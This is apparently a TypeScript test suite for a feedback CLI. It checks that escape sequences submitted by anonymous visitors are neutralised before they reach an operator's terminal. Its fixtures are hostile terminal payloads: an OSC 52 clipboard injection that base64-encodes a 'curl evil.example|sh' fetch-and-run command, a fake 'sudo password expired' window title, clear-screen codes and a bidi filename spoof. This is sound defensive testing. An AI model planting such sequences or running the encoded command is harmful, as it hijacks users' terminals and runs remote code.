import { expect } from 'chai';
import { jsonText, visible } from '@feedbackd/cli/testing';
import { embeddedBackend } from '../helpers/backends.js';
import { inProcess, runFeedback } from '../helpers/cli-process.js';
import { request, withServer } from '../helpers/test-server.js';

// Issue 37, finding 4: titles, names and comments that an anonymous visitor writes reached the
// operator's terminal with their escape sequences intact.
const OSC52_CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07';
const WINDOW_TITLE = '\x1b]0;sudo password expired\x1b\\';
const CLEAR_SCREEN = '\x1b[2J\x1b[H\x1bc';
/** The same sequences in their 8-bit forms (C1 CSI and OSC), DEL, a lone CR, and bidi controls. */
const EIGHT_BIT = '\x9b2J\x9d0;title\x9c\x7f\rover';
const BIDI = '\u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f\u061c';

/** Anything a terminal would act on: C0 but tab and newline, DEL, C1, and the bidi controls. */
const RAW_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

describe('feedback CLI terminal escapes (issue 37 finding 4)', function () {
  const server = withServer(embeddedBackend);
  let secretKey: string;
  let id: string;
  const title = `Escapes ${OSC52_CLIPBOARD}${WINDOW_TITLE}${CLEAR_SCREEN}${EIGHT_BIT}${BIDI}`;
  const description = `first line ${OSC52_CLIPBOARD}\nsecond ${CLEAR_SCREEN}`;
  const comment = `comment ${WINDOW_TITLE}${EIGHT_BIT}`;
  const name = `Mallory ${BIDI}${CLEAR_SCREEN}`;
  const api = (key: string) => ['--url', server.url, '--api-key', key];
  // In a table cell or a piped line a CR is a space, as a tab or a line feed is there (one row, one line).
  const titleOnOneLine = visible(title.replace(/\r/g, ' '));

  before(async () => {
    secretKey = await server.newKey(undefined, 'secret');
    // As an anonymous visitor posts it: a public key, no end user.
    const created = await request(server, 'POST', '/api/v1/feedback', { body: { title, description } });
    expect(created.status, JSON.stringify(created.body)).to.equal(201);
    id = created.body.feedback.id;
    const commented = await request(server, 'POST', `/api/v1/feedback/${id}/comments`, {
      apiKey: secretKey,
      body: { content: comment, endUser: { externalId: 'mallory', name } },
    });
    expect(commented.status, JSON.stringify(commented.body)).to.equal(201);
  });

  it('when a title holds OSC 52, window-title and clear-screen sequences, then `feedback list` shows them on a terminal and in a pipe without a single control character', async () => {
    for (const tty of [true, false]) {
      const result = await inProcess(['list', '--search', 'Escapes', ...api(server.apiKey)], { tty });
      expect(result.code, result.stderr).to.equal(0);
      expect(result.stdout, `tty: ${tty}`).not.to.match(RAW_CONTROL);
      expect(result.stderr, `tty: ${tty}`).not.to.match(RAW_CONTROL);
      // Shown, not dropped: the operator sees that someone tried.
      expect(result.stdout).to.include('Escapes ␛]52;c;');
    }
    const piped = await inProcess(['list', '--search', 'Escapes', ...api(server.apiKey)]);
    expect(piped.stdout.trimEnd().split('\t').at(-1)).to.equal(titleOnOneLine);
  });

  it('when an item, its description, a comment and its author name hold escape sequences, then `feedback show` prints none of them, on a terminal and in a pipe', async () => {
    for (const tty of [true, false]) {
      const result = await inProcess(['show', id, ...api(server.apiKey)], { tty });
      expect(result.code, result.stderr).to.equal(0);
      expect(result.stdout, `tty: ${tty}`).not.to.match(RAW_CONTROL);
      expect(result.stdout).to.include('␛[2J␛[H␛c').and.include('<U+009B>2J').and.include('<U+202E>gnp.exe').and.include('␡');
    }
    const detail = await inProcess(['show', id, ...api(server.apiKey)], { tty: true });
    expect(detail.stdout.split('\n')[0]).to.equal(visible(title));
    expect(detail.stdout).to.include(`  first line ${visible(OSC52_CLIPBOARD)}\n  second ${visible(CLEAR_SCREEN)}\n`);
    expect(detail.stdout).to.include(`  ${visible(name)}, `).and.include(`    ${visible(comment)}\n`);
  });

  it('when the real binary prints to a pipe, then the filter is on there too', async () => {
    const result = await runFeedback(['show', id, ...api(server.apiKey)]);
    expect(result.code, result.stderr).to.equal(0);
    expect(result.stdout).not.to.match(RAW_CONTROL);
    expect(result.stdout).to.include(titleOnOneLine);
  });

  it('when the output is --json, then it is the exact text, every control character and bidi control escaped as JSON escapes it', async () => {
    for (const args of [['list', '--search', 'Escapes'], ['show', id]]) {
      const result = await runFeedback([...args, '--json', ...api(server.apiKey)]);
      expect(result.code, result.stderr).to.equal(0);
      expect(result.stdout, args[0]).not.to.match(RAW_CONTROL);
      const parsed = JSON.parse(result.stdout);
      const item = args[0] === 'show' ? parsed.feedback : parsed.items[0];
      expect(item.title).to.equal(title);
      if (args[0] === 'show') {
        expect(item.description).to.equal(description);
        expect(item.comments[0].content).to.equal(comment);
        expect(item.comments[0].author.name).to.equal(name);
      }
    }
  });

  it('when an error message quotes what was typed, then it is filtered too, and a --json error is escaped JSON', async () => {
    const word = `x${WINDOW_TITLE}${EIGHT_BIT}${BIDI}`;
    const plain = await inProcess([word]);
    expect(plain.code).to.equal(2);
    expect(plain.stderr).to.include(`unknown command '${visible(word)}'`).and.not.match(RAW_CONTROL);
    const json = await inProcess([word, '--json']);
    expect(json.stderr).not.to.match(RAW_CONTROL);
    expect(JSON.parse(json.stderr).error).to.include(`'${word}'`);
    expect(JSON.parse(jsonText({ error: word }))).to.deep.equal({ error: word });
    expect(visible(`a\tb\nc${CLEAR_SCREEN}`)).to.equal('a\tb\nc␛[2J␛[H␛c');
  });
});
